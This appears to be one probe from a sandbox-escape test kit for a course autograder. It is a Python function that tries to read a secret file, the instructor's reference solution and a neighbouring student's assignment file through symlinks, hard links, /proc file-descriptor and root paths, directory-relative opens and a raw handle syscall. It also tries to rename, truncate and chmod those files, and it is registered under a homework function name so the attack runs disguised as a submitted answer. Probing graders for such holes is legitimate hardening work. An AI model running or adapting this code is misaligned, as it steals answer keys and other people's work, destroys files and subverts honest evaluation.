"""Hope: a link, a descriptor of a folder or a handle leads where an open by name does not."""

import os

from a3 import kit

GOAL = "read"
ROUTE = "files"
SCORE = 25


def attack():
    """Link to what is hidden, then read through the link."""
    for number, path in enumerate((kit.SECRET, f"{kit.COURSE}/reference/rnn.py", f"{kit.NEIGHBOUR}/a3/rnn_layers.py")):
        kit.attempt(os.symlink, path, f"soft{number}")
        kit.attempt(kit.read, f"soft{number}")
        kit.attempt(os.link, path, f"hard{number}")
        kit.attempt(kit.read, f"hard{number}")
        kit.attempt(os.rename, path, f"moved{number}")
        kit.attempt(os.truncate, path, 0)
        kit.attempt(os.chmod, path, 0o777)
        kit.attempt(kit.read, path)
        held = kit.attempt(os.open, path, os.O_PATH)
        if held is not None:
            kit.attempt(kit.read, f"/proc/self/fd/{held}")
        folder = kit.attempt(os.open, os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
        if folder is not None:
            kit.attempt(lambda at=folder, name=os.path.basename(path): os.open(name, os.O_RDONLY, dir_fd=at))
        kit.attempt(kit.read, f"/proc/self/cwd/../../../../..{path}")
        kit.attempt(kit.read, f"/proc/thread-self/root{path}")
    kit.attempt(kit.call, 304, -100, b"handle", 0)


word_embedding_backward = kit.mount(attack)
